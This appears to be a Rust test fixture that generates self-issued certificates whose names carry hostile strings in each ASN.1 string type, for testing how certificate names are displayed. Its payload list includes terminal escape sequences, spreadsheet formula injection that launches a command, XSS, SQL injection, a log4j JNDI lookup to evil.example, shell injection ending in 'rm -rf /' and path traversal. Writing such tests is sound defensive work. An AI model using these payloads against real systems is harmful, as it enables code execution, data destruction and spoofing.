//! Names made to take over whoever shows them, in every string type that a certificate may use.
//!
//! A template is made for each length and the octets of its name exchanged: no library writes a name that is no
//! text. The signature then fits nothing, which no reader here asks about.

#![allow(dead_code, reason = "each crate of tests uses a part")]

use crate::certificates::{pem, root};

/// Texts that mean something to a terminal, a spreadsheet, a browser, a page of Markdown, a label, a plugin, a
/// message of SARIF, a shell or a log.
pub const PAYLOADS: &[&str] = &[
    "",
    " ",
    "plain",
    "\u{1b}[2J\u{1b}[H\u{1b}]0;owned\u{7}",
    "\u{1b}]8;;https://evil.example\u{1b}\\click\u{1b}]8;;\u{1b}\\",
    "\u{1b}]52;c;cm0gLXJm\u{7}",
    "\u{9b}31m\u{90}q\u{9c}\u{85}",
    "\u{202e}gnp.exe\u{202c}\u{2066}x\u{2069}",
    "\u{200e}\u{200f}\u{61c}\u{200b}\u{2060}\u{feff}\u{ad}",
    "\u{2028}line\u{2029}paragraph",
    "\u{e0041}\u{e007f}\u{fffe}\u{ffff}\u{1ffff}",
    "\u{0}nul\u{8}\u{b}\u{c}\u{7f}",
    "line\nERROR forged: all is well\r\nx\rxx",
    "\ttab",
    "=HYPERLINK(\"https://evil.example\",\"x\")",
    "=cmd|' /C calc'!A0",
    "+1+cmd",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "a,b;c\td\"e\"",
    "\"\"\",\"",
    "'; DROP TABLE roots; --",
    "</title></style><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "\" onmouseover=\"alert(1)",
    "' autofocus onfocus='x",
    "]]><!--<?xml?><![CDATA[",
    "&#x1b;&lt;&amp;&quot;&#0;",
    "javascript:alert(1)//https://evil.example",
    "[x](javascript:alert(1)) ![y](https://evil.example/y.png)",
    "<https://evil.example> www.evil.example",
    "@everyone #1 :tada: \\@x",
    "`code` ``more`` ```fence",
    "````\n````",
    "| a | b |\n|---|---|",
    "<details><summary>x",
    "# heading\n- list\n> quote",
    "\"} 1\ncastore_forged{a=\"b\"} 1",
    "\\\"} 1",
    "\\",
    "\\n\\u{1b}\\x1b",
    "{0} {{1}} {a} %s%n%x",
    "[a](1) [b](https://evil.example)",
    "OK - fine | errors=0;;;0 'x y'=1",
    "a|b|c",
    "$(id) `id` ${IFS} ; rm -rf /",
    "${jndi:ldap://evil.example/a}",
    "../../../../etc/passwd",
    "%0a%0d%1b%00",
    "Z\u{334}\u{321}\u{341}\u{334}\u{341}\u{334}a\u{335}\u{335}\u{335}\u{335}",
    "ｆｕｌｌ ｗｉｄｔｈ 日本 العربية",
    "\u{1f4a9}\u{200d}\u{1f525}",
];

/// String types by their tags (X.680, 8.6): each payload in each of them, converted where its text can be.
const UTF8: u8 = 0x0c;
const PRINTABLE: u8 = 0x13;
const TELETEX: u8 = 0x14;
const IA5: u8 = 0x16;
const UNIVERSAL: u8 = 0x1c;
const BMP: u8 = 0x1e;

/// Octets that are no text in the type that is said to hold them.
const NO_TEXT: &[(u8, &[u8])] = &[
    (UTF8, b"\xc0\x80"),
    (UTF8, b"\xed\xa0\x80\xed\xb0\x80"),
    (UTF8, b"a\xffb\x1b[2J\xfe"),
    (UTF8, b"\xf4\x90\x80\x80"),
    (UTF8, b"\xe2\x80"),
    (UTF8, b"\xf0\x9f\x92"),
    (PRINTABLE, b"\x00\x1b[31m\x9b31m"),
    (PRINTABLE, b"<*@_&>\xff"),
    (IA5, b"\x80\x9b\xff\x00"),
    (TELETEX, b"\x1b%G\xe2\x80\xae\x0e\x0f\x8e\x8f"),
    (TELETEX, b"\x9b2J\xad\xa0"),
    (BMP, b"\xd8\x00\xdc\x00"),
    (BMP, b"\xd8\x00\x00a"),
    (BMP, b"\xdc\x00\xff\xfe\xff\xff"),
    (BMP, b"\x00a\x00"),
    (BMP, b"\x20\x2e\x00\x1b\x00\x9b"),
    (UNIVERSAL, b"\x00\x11\x00\x00"),
    (UNIVERSAL, b"\x00\x00\xd8\x00"),
    (UNIVERSAL, b"\x00\x00\x00"),
    (UNIVERSAL, b"\xff\xff\xff\xff"),
    (0x04, b"\x1b[2J"),
    (0x1a, b"\x1b[2J\x00"),
    (0x12, b"1\x1b2"),
];

/// Very long names: the longest of a real root has 116 octets.
const LONG: &[(&str, usize)] =
    &[("A", 70_000), ("\u{202e}", 5_000), ("=", 2_000), ("`", 3_000), ("<", 3_000), ("\n", 1_000)];

/// Distinct self-issued certificates that ended in 2011, each with one of these names.
pub fn hostile() -> Vec<Vec<u8>> {
    let mut names: Vec<(u8, Vec<u8>)> = Vec::new();
    for payload in PAYLOADS {
        let wide =
            |width: usize| payload.chars().flat_map(|c| u32::from(c).to_be_bytes()[4 - width..].to_vec()).collect();
        names.push((UTF8, payload.as_bytes().to_vec()));
        names.push((PRINTABLE, payload.as_bytes().to_vec()));
        names.push((IA5, payload.as_bytes().to_vec()));
        names.push((TELETEX, payload.as_bytes().to_vec()));
        names.push((BMP, payload.encode_utf16().flat_map(u16::to_be_bytes).collect()));
        names.push((UNIVERSAL, wide(4)));
    }
    names.extend(NO_TEXT.iter().map(|(tag, octets)| (*tag, octets.to_vec())));
    names.extend(LONG.iter().map(|(part, times)| (UTF8, part.repeat(*times).into_bytes())));
    names.sort();
    names.dedup();
    names.iter().enumerate().map(|(number, (tag, octets))| certificate(number, *tag, octets)).collect()
}

/// The certificate of [`hostile`] with the common name of this tag and these octets.
fn certificate(number: usize, tag: u8, octets: &[u8]) -> Vec<u8> {
    // What stands in the place of the name is found again by its length and its letters.
    let placeholder = "X".repeat(octets.len());
    let serial = [&[0x40], &u32::try_from(number).expect("few").to_be_bytes()[..]].concat();
    let recipe = root(&placeholder).organization("Hostile").serial(&serial).dates((2010, 1, 1), (2011, 1, 1));
    let mut der = recipe.make().der().to_vec();
    let written = {
        // The identifier of the attribute, then its value with the header of its length.
        let identifier = [0x06, 0x03, 0x55, 0x04, 0x03, UTF8];
        let header = header_length(octets.len());
        move |der: &[u8]| -> Vec<usize> {
            let is_here = |at: &usize| der[*at..].starts_with(&identifier);
            (0..der.len() - identifier.len()).filter(is_here).map(|at| at + identifier.len() - 1 + header).collect()
        }
    };
    let places = written(&der);
    assert_eq!(places.len(), 2, "issuer and subject of {octets:?}");
    for at in places {
        der[at - header_length(octets.len())] = tag;
        assert!(der[at..at + octets.len()].iter().all(|octet| *octet == b'X'));
        der[at..at + octets.len()].copy_from_slice(octets);
    }
    der
}

/// Octets of tag and length before this many octets (X.690, 8.1.3).
fn header_length(length: usize) -> usize {
    match length {
        0..0x80 => 2,
        0x80..0x100 => 3,
        0x100..0x1_0000 => 4,
        _ => 5,
    }
}

/// All of them as one bundle.
pub fn bundle() -> String {
    hostile().iter().map(|der| pem("CERTIFICATE", der)).collect()
}
